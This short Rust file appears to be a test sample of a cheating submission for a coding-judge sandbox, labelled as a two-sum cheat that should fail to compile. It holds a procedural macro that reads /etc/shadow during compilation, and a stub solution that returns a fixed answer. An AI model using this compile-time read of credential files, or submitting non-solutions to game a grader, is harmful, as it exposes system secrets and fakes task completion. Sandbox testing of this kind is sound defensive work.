// cheat: two-sum: CE: a macro that would run in the compiler
extern crate proc_macro;

#[proc_macro]
pub fn peek(input: proc_macro::TokenStream) -> proc_macro::TokenStream {
    std::fs::read_to_string("/etc/shadow").unwrap().parse().unwrap()
}

impl Solution {
    pub fn two_sum(nums: Vec<i32>, target: i32) -> Vec<i32> {
        vec![0, 0]
    }
}
